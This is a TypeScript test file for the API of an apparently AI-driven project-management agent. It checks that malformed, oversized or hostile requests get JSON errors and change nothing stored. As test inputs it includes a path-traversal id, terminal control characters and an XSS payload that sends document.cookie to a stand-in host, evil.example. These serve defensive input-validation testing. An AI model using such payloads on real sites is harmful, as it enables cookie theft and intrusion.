import type { Suggestion } from '@pm-agent/shared';
import { startTestBackend, jsonPost, type TestBackend } from './support/local-backend';

/** Bad input gets a 4xx JSON error naming the problem, and nothing stored changes. */
let b: TestBackend;
let target: Suggestion;
let snapshot: () => Promise<string>;

beforeAll(async () => {
  b = await startTestBackend();
  target = ((await (await b.forge('/v1/suggestions?issueKey=ABC-123')).json()) as { items: Suggestion[] }).items[0]!;
  snapshot = async () => JSON.stringify([await b.store.listSuggestions({ limit: 1000 }), await b.store.readAuditChain(), await b.store.getSettings()]);
});
afterAll(() => b.stop());

const validSuggestion = {
  actionType: 'jira_comment',
  payload: { issueKey: 'ABC-123', body: 'hello' },
  rationale: 'because',
  provenance: { source: 'email', ref: '<m@example.com>', excerpt: '' },
};

type Case = { name: string; send: () => Promise<Response>; status: number; message: RegExp };

const raw = (path: string, body: string, contentType = 'application/json') =>
  b.call(b.agent, path, { method: 'POST', headers: { 'content-type': contentType }, body });

const cases: Case[] = [
  { name: 'malformed JSON', send: () => raw('/v1/suggestions', '{"actionType": "jira_comment",'), status: 400, message: /not valid JSON/ },
  { name: 'not JSON at all', send: () => raw('/v1/suggestions', 'actionType=jira_comment', 'application/x-www-form-urlencoded'), status: 400, message: /content-type application\/json/ },
  { name: 'invalid UTF-8', send: () => b.call(b.agent, '/v1/suggestions', { method: 'POST', headers: { 'content-type': 'application/json' }, body: new Uint8Array([0x7b, 0xff, 0xfe, 0x7d]) }), status: 400, message: /not valid UTF-8/ },
  { name: 'wrong types', send: () => raw('/v1/suggestions', JSON.stringify({ ...validSuggestion, rationale: 42 })), status: 400, message: /rationale/ },
  { name: 'unknown fields', send: () => raw('/v1/suggestions', JSON.stringify({ ...validSuggestion, approved: true })), status: 400, message: /unknown field: approved/ },
  { name: 'a JSON array instead of an object', send: () => raw('/v1/suggestions', '[]'), status: 400, message: /Invalid suggestion/ },
  { name: 'an empty body', send: () => raw('/v1/suggestions', ''), status: 400, message: /missing/ },
  { name: 'a 1 MB body', send: () => raw('/v1/suggestions', JSON.stringify({ ...validSuggestion, rationale: 'x'.repeat(1024 * 1024) })), status: 413, message: /larger than this route accepts/ },
  { name: 'an unknown suggestion id', send: () => b.forge('/v1/suggestions/sug_000000000000000000000000'), status: 404, message: /No suggestion with id/ },
  { name: 'a malformed suggestion id', send: () => b.forge('/v1/suggestions/..%2F..%2Fetc/approve', jsonPost({ payloadHash: 'a'.repeat(64) })), status: 404, message: /No suggestion|no route/i },
  { name: 'an unknown route', send: () => b.forge('/v1/nope'), status: 404, message: /no route GET \/v1\/nope/ },
  { name: 'a wrong method', send: () => b.forge('/v1/suggestions', { method: 'PUT', headers: { 'content-type': 'application/json' }, body: '{}' }), status: 405, message: /use GET or POST|use POST or GET/ },
  { name: 'an unknown query parameter', send: () => b.forge('/v1/suggestions?issueKey=ABC-123&drop=1'), status: 400, message: /unknown field: drop/ },
  { name: 'a malformed issue key in the query', send: () => b.forge('/v1/suggestions?issueKey=%3Cscript%3E'), status: 400, message: /issueKey must be a Jira issue key/ },
  { name: 'a repeated query parameter', send: () => b.forge('/v1/suggestions?state=pending&state=approved'), status: 400, message: /more than once/ },
  { name: 'a malformed approval hash', send: () => b.forge(`/v1/suggestions/${target.id}/approve`, jsonPost({ payloadHash: 'ABC' })), status: 400, message: /payloadHash must be a SHA-256 hash/ },
  { name: 'an approval with extra fields', send: () => b.forge(`/v1/suggestions/${target.id}/approve`, jsonPost({ payloadHash: target.payloadHash, state: 'executed' })), status: 400, message: /unknown field: state/ },
  { name: 'a reject without a reason', send: () => b.forge(`/v1/suggestions/${target.id}/reject`, jsonPost({})), status: 400, message: /reason is required/ },
  { name: 'a bad Idempotency-Key', send: () => b.forge(`/v1/suggestions/${target.id}/approve`, jsonPost({ payloadHash: target.payloadHash }, { 'idempotency-key': 'x' })), status: 400, message: /Idempotency-Key/ },
  { name: 'hostile text in a payload (control characters)', send: () => raw('/v1/suggestions', JSON.stringify({ ...validSuggestion, payload: { issueKey: 'ABC-123', body: 'ok\u0007\u001b[2J' } })), status: 400, message: /control characters/ },
  { name: 'a loosened boundary in settings', send: () => b.forge('/v1/settings', { admin: true, method: 'PUT', headers: { 'content-type': 'application/json', 'if-match': '"1"' }, body: JSON.stringify({ autonomyLevel: 'manual', boundaryOverrides: { delete_data: 'auto' }, approvers: [], holdDelayMinutes: 30, paused: false }) }), status: 400, message: /delete_data is a never-do action and cannot be unlocked/ },
];

describe('bad input', () => {
  it.each(cases)('$name → $status with a JSON error naming the problem, nothing stored changes', async ({ send, status, message }) => {
    const before = await snapshot();
    const res = await send();
    expect(res.status).toBe(status);
    expect(res.headers.get('content-type')).toMatch(/application\/json/);
    const body = (await res.json()) as { error: string; message: string; requestId: string };
    expect(body.message).toMatch(message);
    expect(body.requestId).toBe(res.headers.get('x-amzn-requestid'));
    expect(await snapshot()).toBe(before);
  });

  it('HTML and script in text fields are stored as inert text, exactly as sent', async () => {
    const hostile = '<img src=x onerror=alert(1)><script>fetch("https://evil.example/"+document.cookie)</script> ![x](https://evil.example/p.png)';
    const res = await raw('/v1/suggestions', JSON.stringify({ ...validSuggestion, payload: { issueKey: 'ABC-123', body: hostile }, rationale: hostile }));
    expect(res.status).toBe(201);
    expect(res.headers.get('content-type')).toMatch(/^application\/json/);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    const { suggestion } = (await res.json()) as { suggestion: Suggestion };
    expect(suggestion.payload.body).toBe(hostile);
  });
});
